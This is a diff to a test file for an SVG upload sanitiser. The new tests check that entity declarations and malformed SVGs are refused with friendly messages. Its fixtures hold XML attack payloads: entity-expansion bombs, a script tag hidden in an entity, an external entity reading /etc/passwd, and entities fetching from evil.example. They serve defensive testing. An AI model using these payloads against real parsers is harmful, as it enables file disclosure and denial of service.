@@ -207,8 +207,43 @@ test('entities that grow are refused, and hold no markup', async () => {
     `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(letters)}">]>${svg(`${'<g class="&a;"/>'.repeat(1000)}${rect}`)}`
   await expect(clean(bomb(5000))).rejects.toThrow('entities')
   expect(await clean(bomb(5))).toContain('class="xxxxx"')
-  const nested = `<!DOCTYPE svg [<!ENTITY a "&lt;script/&gt;"><!ENTITY b "&a;&a;">]>${svg(`<text>&b;</text>${rect}`)}`
-  expect(await clean(nested)).not.toContain('<script')
+  const markup = `<!DOCTYPE svg [<!ENTITY a "&lt;script/&gt;">]>${svg(`<text>&a;</text>${rect}`)}`
+  expect(await clean(markup)).not.toContain('<script')
+})
+
+test.each([
+  ['<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'],
+  ['<!ENTITY a "&a;">', '&a;'],
+  ['<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">', '&c;'],
+  ['<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'],
+  ['<!ENTITY x PUBLIC "a" "http://evil.example/x">', '&x;'],
+  ['<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', ''],
+  ['', '&nope;'],
+])('entities %s are refused in words of the panel', async (declarations, use) => {
+  const text = `<!DOCTYPE svg [${declarations}]>${svg(`<text>${use}</text>${rect}`)}`
+  await expect(inspectPicture(bytes(text))).rejects.toMatchObject({
+    why: expect.stringContaining('entities'),
+  })
+})
+
+test.each([
+  [svg(rect).replace('</svg>', ''), 'damaged in line 1'],
+  [svg(`\n<g>${rect}`), 'damaged in line 2'],
+  [svg(`\n${rect.replace('/>', ' x="2" x="3"/>')}`), 'damaged in line 2'],
+  [svg(`<text>a & b</text>${rect}`), 'damaged in line 1'],
+  [svg(`<text>\x01</text>${rect}`), 'damaged in line 1'],
+  ['<svg xmlns="http://www.w3.org/2000/svg"/>', 'has no size'],
+  [
+    `<svg xmlns="http://www.w3.org/2000/svg" width="9999999" height="9999999">${rect}</svg>`,
+    'too large',
+  ],
+])('%j is refused without the words of the parser', async (text, words) => {
+  const { message } = await inspectPicture(bytes(text)).then(
+    () => new Error('taken'),
+    (error: Error) => error,
+  )
+  expect(message).toContain(words)
+  expect(message).not.toMatch(/glib|svgload|XML|header|Unexpected|Invalid/)
 })
 
 test.each([
